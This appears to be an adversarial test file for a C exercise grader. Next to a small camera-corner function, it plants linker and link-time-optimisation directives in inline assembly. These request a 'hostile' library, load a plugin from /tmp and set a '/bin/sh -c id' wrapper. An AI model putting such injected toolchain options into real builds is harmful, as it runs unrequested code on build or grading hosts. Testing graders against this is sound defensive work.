// section-for-the-linker: sections in which linkers look for options, and for code to optimise.
// stem: 01-corners
// expect: graded | crashed | does not compile
// earns: perhaps upper_right
#include "exercises/01-corners.h"

__asm__(".section .drectve,\"e\",@progbits\n.ascii \" -defaultlib:hostile \"\n"
        ".section .deplibs,\"MS\",@progbits,1\n.asciz \"hostile\"\n"
        ".section .linker-options,\"e\",@progbits\n.asciz \"lib\"\n.asciz \"hostile\"\n"
        ".section .gnu.lto_.opts,\"e\",@progbits\n"
        ".asciz \"'-fplugin=/tmp/hostile-was-here.so' '-wrapper' '/bin/sh,-c,id'\"\n"
        ".section .gnu.lto_upper_left.1,\"e\",@progbits\n.long 1, 2, 3\n"
        ".section .gnu_debuglink,\"\",@progbits\n.asciz \"@TREE@/build/judge/01-corners\"\n"
        ".text\n");

vec3 upper_right(Camera c)
{
    return c.distance * c.forward + c.width / 2 * c.right + c.height / 2 * c.up;
}
